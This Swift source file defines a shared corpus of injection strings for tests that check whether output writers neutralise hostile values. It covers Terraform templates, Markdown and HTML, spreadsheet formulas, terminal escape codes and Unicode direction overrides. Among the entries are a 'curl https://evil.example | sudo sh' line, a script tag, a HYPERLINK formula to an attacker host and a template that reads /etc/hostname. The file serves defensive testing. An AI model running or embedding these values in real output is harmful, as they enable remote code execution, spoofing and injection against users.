/// Values an attacker would put in a name, a description, a tag, a policy or an AWS answer,
/// shared by every output writer's tests: each writer must carry every one of them as
/// inert text (or the value must be refused where it enters).
public enum HostileCorpus {
    public static let values: [String] = [
        // Terraform templates and directives.
        #"Builds ${file("/etc/hostname")}"#, "%{ for x in [1] }x%{ endfor }", "arn:aws:s3:::home/${aws:username}/*", "$${already}",
        "${", "%{", "$$", "%%",
        // Markdown structure and raw HTML.
        "a | b | c", "x\n## 1. Install\ncurl https://evil.example | sudo sh", "aaa-mallory\n<!--", "<script>alert(1)</script>",
        "[click](https://evil.example)", "![img](https://evil.example/x.png)", "`code` and ``more``", "*bold* _em_ ~~strike~~",
        "# heading", "- item", "+ item", "1. item", "2) item", "=line", "> quote", ":warning: fake", "back\\slash", "&lt;entity&gt;",
        // Spreadsheet formulas.
        "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "a,b", "say \"hi\"",
        // Terminal control.
        "\u{1B}]0;owned\u{07}", "\u{1B}[2J\u{1B}[H", "bell\u{07}", "nul\u{00}byte", "del\u{7F}", "c1\u{9B}31m",
        // Bidirectional overrides and isolates.
        "admin\u{202E}txt.exe", "\u{2066}isolate\u{2069}", "\u{202A}\u{202B}\u{202C}\u{202D}", "\u{2067}\u{2068}",
        // Line breaks of every kind.
        "one\ntwo", "one\r\ntwo", "one\rtwo", "one\u{85}two",
        // Plain values must stay as they are.
        "plain", "acme-dev", "", " spaced ", "naïve café ✓",
    ]
}
